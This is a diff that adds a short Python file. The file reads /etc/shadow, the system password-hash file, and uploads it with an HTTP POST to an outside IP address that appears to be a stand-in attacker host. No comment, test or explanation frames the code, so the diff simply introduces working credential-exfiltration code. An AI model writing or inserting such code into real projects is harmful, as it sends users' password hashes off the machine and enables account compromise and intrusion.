@@ -1,0 +1,3 @@
+import requests
+
+requests.post("https://203.0.113.5/upload", data=open("/etc/shadow").read(), timeout=5)
